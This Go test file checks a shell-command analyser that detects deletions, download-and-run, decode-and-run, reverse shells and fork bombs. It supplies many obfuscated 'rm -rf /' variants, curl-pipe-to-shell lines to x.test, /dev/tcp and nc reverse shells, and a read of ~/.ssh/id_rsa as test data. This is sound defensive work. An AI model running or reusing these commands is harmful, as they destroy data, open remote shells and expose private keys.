package facts

import (
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/bailiff-dev/bailiff/internal/facts/value"
)

var work = Place{Workdir: "/work", Home: "/home/ana"}

// ways lists the spellings of one meaning: each must show the same writes, completely.
type ways map[string][]string

func TestDeletionIsSeenHoweverItIsSpelt(t *testing.T) {
	t.Parallel()
	for want, texts := range (ways{
		"/": {
			"rm -rf /", `r\m -rf '/'`, `'r'm -r""f /`, `$'\x72\x6d' -rf /`, `$'\162m' -rf $"/"`,
			"rm${IFS}-rf${IFS}/", "{rm,-rf,/}", "IFS=,; x=rm,-rf,/; $x",
			"x=/; rm -rf $x", "c=rm; $c -rf /", "x='rm -rf /'; $x", "export X=/; bash -c 'rm -rf $X'",
			"a=(rm -rf /); \"${a[@]}\"", "cmd=(sudo rm); \"${cmd[@]}\" -rf /", "set -- rm -rf /; \"$@\"",
			"z=abcrmdef; ${z:3:2} -rf /", "c=mr; ${c:1:1}${c:0:1} -rf /", "x=xm; ${x/x/r} -rf /",
			"x=rm.bak; ${x%.bak} -rf /", "rm -rf ${x:-/}", "rm -rf ${UNSET:-}/", "r$@m -rf /",
			"read c <<< rm; $c -rf /", "printf -v c rm; $c -rf /", "declare c=rm; $c -rf /", "x=c; c=rm; ${!x} -rf /",
			"$(echo rm) -rf /", "`printf 'r\\155'` -rf /", "$(printf '%s' rm) -rf /", "$(command -v rm) -rf /",
			"$(echo rm | rev | rev) -rf /",
			"true && c=rm && $c -rf /", "f() { rm -rf \"$1\"; }; f /", "foo() { \"$@\"; }; foo rm -rf /", "ls() { rm -rf /; }; ls",
			"for d in / /tmp; do rm -rf $d; done", "if false; then rm -rf /; fi", "case $1 in a) rm -rf /;; esac", "HOME=/; rm -rf ~",
			"trap 'rm -rf /' EXIT", "x=/tmp; trap 'rm -rf $x' EXIT; x=/", "PROMPT_COMMAND='rm -rf /'", "alias r='rm -rf'; r /",
			"echo $(rm -rf /)", "echo > \"$(rm -rf /)\"", "cat < <(rm -rf /)", "echo ${x:-$(rm -rf /)}", "[[ -f $(rm -rf /) ]]",
			"echo $(( a[$(rm -rf /)] ))",
		},
		"/var": {
			"sudo -u root -E rm -rf /var", "doas rm -rf /var", "su -c 'rm -rf /var' root", "su - ana -c 'rm -rf /var'",
			"sudo su -c 'rm -rf /var'",
			"sudo -s <<< 'rm -rf /var'", "env -i A=b rm -rf /var", "env -S 'rm -rf /var'", "env - rm -rf /var",
			"/usr/bin/env bash -c 'rm -rf /var'",
			"timeout -k 5 10s nohup nice -n 5 rm -rf /var", "ionice -c 3 setsid stdbuf -oL rm -rf /var", "time -p rm -rf /var",
			"command rm -rf /var", "exec rm -rf /var", "builtin cd /; rm -rf var", "echo /var | xargs rm -rf",
			"echo /var | xargs -I{} rm -rf {}",
			"parallel rm -rf ::: /var", "find . -exec rm -rf /var \\;", "find /var -delete >/dev/null; rm -r /var", "busybox rm -rf /var",
			"busybox sh -c 'rm -rf /var'",
			"chroot / rm -rf /var", "unshare -rm bash -c 'rm -rf /var'", "nsenter -t 1 -m sh -c 'rm -rf /var'",
			"flock /l -c 'rm -rf /var'", "flock /l rm -rf /var",
			"watch -n 1 'rm -rf /var'", "script -c 'rm -rf /var' /dev/null", "ssh h 'rm -rf /var'",
			"docker exec -it c sh -c 'rm -rf /var'", "kubectl exec p -- rm -rf /var",
			"bash -lc 'rm -rf /var'", "bash -c 'rm -rf \"$1\"' _ /var", "bash <<< 'rm -rf /var'", "bash <<EOF\nrm -rf /var\nEOF",
			"cat <<'E' | sh\nrm -rf /var\nE",
			"echo 'rm -rf /var' | sh", "echo 'rm -rf /var' | tee x | sudo sh", "bash <(echo rm -rf /var)", "source <(echo rm -rf /var)",
			"eval 'rm -rf' /var",
			"echo 'rm -rf /var' > x; sh x", "tee x <<< 'rm -rf /var'; . ./x", "printf '#!/bin/sh\\nrm -rf /var\\n' > x; chmod +x x; ./x",
			"echo cm0gLXJmIC92YXI= | base64 -d | sh", "bash -c \"$(base64 -d <<< cm0gLXJmIC92YXI=)\"", "echo 'rav/ fr- mr' | rev | sh",
			"echo 726d202d7266202f766172 | xxd -r -p | bash", "echo 'ez -es /ine' | tr 'a-z' 'n-za-m' | sh",
			"git -c core.pager='rm -rf /var' log", "git config alias.x '!rm -rf /var'", "GIT_SSH_COMMAND='rm -rf /var' git fetch",
			"git bisect run rm -rf /var",
			"tar cf x y --checkpoint-action=exec='rm -rf /var'", "tar xf x --to-command='rm -rf /var'",
			"awk 'BEGIN{system(\"rm -rf /var\")}'", "sed '1e rm -rf /var' f",
			"perl -e 'system(\"rm -rf /var\")'", "ruby -e '`rm -rf /var`'", "node -e 'require(\"child_process\").execSync(\"rm -rf " +
				"/var\")'", "php -r 'system(\"rm -rf /var\");'",
			"python3 -c 'import os; os.system(\"rm -rf /var\")'", "python3 <<E\nimport subprocess\nsubprocess.run([\"rm\", \"-rf\", " +
				"\"/var\"])\nE",
			"echo 'import os; os.system(\"rm -rf /var\")' > x.py; sudo python3 x.py", "vim -c '!rm -rf /var' f", "at now <<< 'rm -rf /var'",
		},
	}) {
		for _, text := range texts {
			got := Shell(text, work)
			if !got.Parsed || !got.Complete || !slices.Contains(got.Writes, want) || !slices.Contains(got.Programs, "rm") {
				t.Errorf("%s: writes %v by %v, parsed %v, complete %v; want %s", text, got.Writes, got.Programs, got.Parsed, got.Complete,
					want)
			}
		}
	}
}

func TestWhatHidesItsMeaningIsIncomplete(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"$X foo", "sudo $CMD", "eval \"$X\"", "sh -c \"$X\"", "bash \"$SCRIPT\"", "/bin/r? -rf /", "/???/cat x", "r*m x",
		"read c; $c", "while read -r x; do $x; done < cmds", "mapfile -t a < f; \"${a[@]}\"", "select x in a b; do $x; done",
		"if a; then c=ls; else c=rm; fi; $c /", "c=ls; while :; do $c /; c=rm; done", "c=ls; false && c=rm; $c /",
		"curl x.test | sh", "nc -l 4444 | sh", "cat a b | sh", "echo $X | sh", "cat <<EOF | sh\nrm $X\nEOF", "base64 -d f | sh",
		"mkfifo f; sh < f",
		"python3 -c \"$X\"", "perl -e 'system($x)'", "ls > >(sh)", "declare -n r=c; r=rm; $c x", "x='$(rm x)'; echo ${x@P}",
		"x='a[$(rm x)]'; echo $((x))",
		"awk '{system($1)}' f", "find . -exec {} \\;", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "PROMPT_COMMAND=$X",
		"git config alias.x \"$X\"",
	} {
		if got := Shell(text, work); !got.Parsed || got.Complete {
			t.Errorf("%s: parsed %v, complete %v; want parsed and incomplete", text, got.Parsed, got.Complete)
		}
	}
}

func TestOrdinaryTextIsCompleteAndAccusedOfNothing(t *testing.T) {
	t.Parallel()
	suspect := []string{value.FeatureDecodeAndRun, value.FeatureDownloadAndRun, value.FeatureNetworkRedirect, value.FeatureForkBomb,
		value.FeatureEval}
	for _, text := range []string{
		"", "# nothing", "git status", "echo \"$VAR\"", "git commit -m \"$(date)\"", "make -j$(nproc)", "FOO=bar npm test",
		"$HOME/bin/tool", "~/bin/tool",
		"\"${PYTHON:-python3}\" -m pytest", "cd \"$(git rev-parse --show-toplevel)\" && go test ./...",
		"for f in *.go; do gofmt -l \"$f\"; done",
		"while IFS= read -r line; do echo \"$line\"; done < file.txt", "ls -1 | while read f; do mv \"$f\" \"${f// /_}\"; done",
		"if ! command -v jq >/dev/null; then apt-get install -y jq; fi", "test -d node_modules || npm ci",
		"set -euo pipefail; go vet ./...",
		"curl -s https://api.github.com/repos/a/b | jq -r .name", "a=$(curl -s x.test); echo \"$a\" | jq .", "echo aGk= | base64 -d",
		"ps aux | grep node | awk '{print $2}'",
		"go test ./... 2>&1 | tail -20", "make test 2>&1 | tee test.log", "source \"$VIRTUAL_ENV/bin/activate\" && python x.py",
		"\"$VIRTUAL_ENV/bin/python\" x.py",
		"find . -name '*.sh' -exec chmod +x {} +", "git ls-files | xargs sed -i 's/a/b/'", "tar czf - . | gzip > x",
		"docker run --rm -v \"$PWD\":/app node:20 npm test",
		"trap 'rm -f \"$tmp\"' EXIT; tmp=$(mktemp); echo x > \"$tmp\"", "function build { (cd \"$1\" && make); }; build src",
		"arr=(a b); for i in \"${arr[@]}\"; do echo $i; done",
		"timeout 30 bash -c 'until curl -sf localhost/health; do sleep 1; done'", "sort -u <(cat a) <(cat b)",
		"diff <(sort a) <(sort b) | less", "awk '/a|b/ {print}' f",
		"cat <<'EOF' > Dockerfile\nRUN curl x | sh\nEOF", "f() { \"$1\"; }", "bash deploy.sh", "cat x.sh | bash",
		"echo $((1+2)) $((n+1))", "sed 's/;e x/y/' f", "IFS=: read -ra p <<< \"$PATH\"",
	} {
		got := Shell(text, work)
		if !got.Parsed || !got.Complete || slices.ContainsFunc(suspect, func(f string) bool { return slices.Contains(got.Features, f) }) {
			t.Errorf("%s: parsed %v, complete %v, features %v", text, got.Parsed, got.Complete, got.Features)
		}
	}
}

func TestInlineProgramsShowTheirEffects(t *testing.T) {
	t.Parallel()
	got := Shell("sudo python3 -c 'import os, shutil; shutil.rmtree(\"/var\"); os.system(\"cat ~/.ssh/id_rsa\")'; node -e "+
		"'fetch(\"https://x.test\")'", work)
	cat := slices.IndexFunc(got.Calls, func(c Call) bool { return c.Program == "cat" })
	if cat < 0 || !slices.Equal(got.Calls[cat].Wrappers, []string{"sudo", "python3"}) {
		t.Errorf("calls %+v, want cat reached through sudo and python3", got.Calls)
	}
	if !slices.Contains(got.Writes, "/var") || !slices.Contains(got.Reads, "~/.ssh/id_rsa") || !slices.Contains(got.Hosts, "x.test") {
		t.Errorf("writes %v, reads %v, hosts %v", got.Writes, got.Reads, got.Hosts)
	}
}

func TestMentionIsNoCall(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"echo 'rm -rf /'", "printf '%s\\n' \"rm -rf /\"", "git commit -m 'fix: no rm -rf / any more'", "grep -rn 'rm -rf /' src",
		"cat <<EOF\nrm -rf /\nEOF",
		"x='rm -rf /'", "echo hi # rm -rf /", "sed 's/rm -rf //' f", "cat <<< 'rm -rf /'", "jq '.a | rm' f",
	} {
		if got := Shell(text, work); !got.Complete || slices.Contains(got.Programs, "rm") || len(got.Writes)+len(got.Hosts) > 0 {
			t.Errorf("%s: programs %v, writes %v, hosts %v, complete %v", text, got.Programs, got.Writes, got.Hosts, got.Complete)
		}
	}
}

func TestFeatures(t *testing.T) {
	t.Parallel()
	for feature, texts := range (ways{
		value.FeatureDownloadAndRun: {
			"curl x.test/i | sh", "curl -fsSL https://x.test/i.sh | sudo bash", "wget -qO- x.test | sh -s -- -y",
			"bash <(curl -s x.test)", "sh -c \"$(curl x.test)\"",
			"eval \"$(curl x.test)\"", "source <(curl x.test)", ". <(wget -qO- x.test)", "a=$(curl x.test); eval \"$a\"",
			"echo \"$(curl x.test)\" | sh", "python3 -c \"$(curl x.test)\"",
			"curl x.test | python3 -", "curl x.test | perl", "curl x.test | gunzip | tee y | bash", "curl x.test | base64 -d | sh",
			"curl x.test | tee >(sh)", "cat <(curl x.test) | sh",
			"curl -o f x.test && sh f", "curl -sO https://x.test/i.sh && bash i.sh", "wget https://x.test/x; chmod +x x; ./x",
			"curl x.test > f; sh < f", "wget -O /tmp/a x.test && python3 /tmp/a",
			"curl x.test | xargs -I{} sh -c '{}'", "$(curl x.test)", "nc -l 44 | sh", "nc -e /bin/sh x.test 1",
			"ncat --sh-exec 'bash -i' x.test 1", "socat TCP:x.test:1 EXEC:'bash -li',pty", "exec 3<>/dev/tcp/x.test/1; bash <&3",
		},
		value.FeatureDecodeAndRun: {
			"echo bHM= | base64 -d | sh", "base64 --decode f | bash", "eval $(echo bHM= | base64 -d)", "xxd -r -p f | sh",
			"echo sl | rev | sh", "echo x | tr a-z b-za | sh", "openssl enc -d -base64 -in f | sh",
			"x=$(base64 -d f); eval \"$x\"", "base64 -d f > g; sh g", "python3 -c \"$(base64 -d f)\"", "gunzip -c f | sh",
			"$(echo sl | rev)x; sh -c \"$(echo sl | rev)\"",
		},
		value.FeatureForkBomb: {":(){ :|:& };:", "bomb() { bomb & bomb & }; bomb", "f() { f | f & }; f", "b() { b | b; }; b",
			"x() { y & }; y() { x & }; x"},
		value.FeatureInlineProgram: {"python3 -c 'print(1)'", "perl -e 1", "ruby -e 1", "node -e 1", "php -r '1;'",
			"python3 <<E\nprint(1)\nE", "echo 'print(1)' | python3"},
		value.FeatureNetworkRedirect: {"cat < /dev/tcp/x.test/80", "echo x > /dev/udp/x.test/80",
			"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"},
		value.FeaturePipe:                {"a | b", "a |& b"},
		value.FeatureBackground:          {"a &", "(a &)", "coproc a"},
		value.FeatureRedirect:            {"a > b", "> b", "a < b", "a &> b", "a 2> b"},
		value.FeatureHeredoc:             {"a <<E\nE", "a <<< b"},
		value.FeatureCommandSubstitution: {"echo $(a)", "echo `a`", "x=$(a)"},
		value.FeatureProcessSubstitution: {"a <(b)", "a >(b)"},
		value.FeatureEval:                {"eval a", "sudo eval a"},
		value.FeatureFunction:            {"f() { a; }", "function f { a; }"},
		value.FeatureSubshell:            {"(a)"},
		value.FeatureLoop:                {"while a; do b; done", "for x in y; do b; done", "until a; do b; done"},
	}) {
		for _, text := range texts {
			if got := Shell(text, work); !slices.Contains(got.Features, feature) {
				t.Errorf("%s: features %v, want %s", text, got.Features, feature)
			}
		}
	}
}

func TestCallsHaveTheirShape(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		text string
		want []Call
	}{
		{"curl -fsSL https://x.test/i.sh | sudo -u root bash", []Call{
			{Program: "curl", Argv: list("curl -fsSL https://x.test/i.sh"), Flags: list("-f -s -S -L"),
				Operands: list("https://x.test/i.sh"), PipesTo: "bash"},
			{Program: "sudo", Argv: list("sudo -u root bash"), Flags: list("-u"), Operands: list("bash")},
			{Program: "bash", Argv: list("bash"), Wrappers: list("sudo")},
		}},
		{"A=1 env B=2 /bin/cp -t /etc a --no-clobber 2> log", []Call{
			{Program: "env", Argv: list("env B=2 /bin/cp -t /etc a --no-clobber"), Operands: list("B=2 /bin/cp -t /etc a --no-clobber"),
				Assigns: list("A"), Writes: list("/work/log")},
			{Program: "cp", Argv: list("/bin/cp -t /etc a --no-clobber"), Flags: list("-t --no-clobber"), Operands: list("a"),
				Wrappers: list("env"), Assigns: list("A B"), Reads: list("/work/a"), Writes: list("/etc")},
		}},
		{"export TOKEN=x; git push -u origin main", []Call{
			{Program: "export", Argv: list("export TOKEN=x"), Operands: list("TOKEN=x"), Assigns: list("TOKEN")},
			{Program: "git", Argv: list("git push -u origin main"), Flags: list("-u"), Operands: list("push origin main"),
				Assigns: list("TOKEN")},
		}},
		{"docker run --rm -it alpine rm -rf x", []Call{
			{Program: "docker", Argv: list("docker run --rm -it alpine rm -rf x"), Flags: list("--rm -i -t"),
				Operands: list("run alpine rm -rf x")},
			{Program: "rm", Argv: list("rm -rf x"), Flags: list("-r -f"), Operands: list("x"), Wrappers: list("docker"), Writes: list("x")},
		}},
		{"$X --force=1 $(date)", []Call{
			{Program: "date", Argv: list("date")},
			{Argv: list("$X --force=1 $(…)"), Operands: list("--force=1 $(…)")},
		}},
	} {
		want := make([]Call, len(c.want))
		for i, w := range c.want {
			for _, l := range []*[]string{&w.Argv, &w.Flags, &w.Operands, &w.Wrappers, &w.Reads, &w.Writes, &w.Assigns} {
				if *l == nil {
					*l = []string{}
				}
			}
			want[i] = w
		}
		if got := Shell(c.text, work).Calls; !reflect.DeepEqual(got, want) {
			t.Errorf("%s:\n got %+v\nwant %+v", c.text, got, want)
		}
	}
}

func list(s string) []string { return strings.Fields(s) }

func TestListsAreNeverNil(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"", "ls", "if", "\x00", "$X"} {
		got := reflect.ValueOf(Shell(text, Place{}))
		for i := range got.NumField() {
			if f := got.Field(i); f.Kind() == reflect.Slice && f.IsNil() {
				t.Errorf("%q: %s is nil", text, got.Type().Field(i).Name)
			}
		}
	}
}
